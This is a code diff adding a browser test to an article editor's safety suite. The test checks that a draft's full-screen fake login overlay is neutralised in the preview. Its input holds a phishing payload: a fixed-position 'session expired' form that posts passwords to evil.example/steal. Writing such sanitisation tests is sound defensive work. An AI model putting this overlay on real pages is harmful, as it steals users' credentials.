@@ -39,6 +39,30 @@ public sealed class EditorSafetyTests : BrowserApp
     }
 
     [Fact]
+    public async Task A_drafts_fake_login_overlay_stays_inside_the_preview_and_has_no_form()
+    {
+        var page = await SignedInAsync();
+        await page.GotoAsync("/admin/articles/edit");
+        await Headline(page).FillAsync("Session expired");
+        await Body(page).FillAsync("""
+            <div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">
+            <h2>Your session expired</h2>
+            <form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>
+            </div>
+
+            Below the overlay.
+            """);
+        await Assertions.Expect(page.Locator("#preview-body h2")).ToHaveTextAsync("Your session expired");
+        Assert.Equal((0, 0, 0), (await page.Locator("#preview-body form").CountAsync(), await page.Locator("#preview-body input").CountAsync(),
+            await page.Locator("#preview-body button").CountAsync()));
+        // The editor's own fields are still what a click reaches: nothing of the draft lies over them.
+        await Headline(page).ClickAsync(new() { Trial = true, Timeout = 5_000 });
+        await page.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync(new() { Trial = true, Timeout = 5_000 });
+        var position = await page.Locator("#preview-body div").First.EvaluateAsync<string>("e => getComputedStyle(e).position");
+        Assert.Equal("static", position);
+    }
+
+    [Fact]
     public async Task Two_people_save_one_article_and_the_second_is_shown_the_conflict_with_their_text_kept()
     {
         var author = await SignedInAsync();
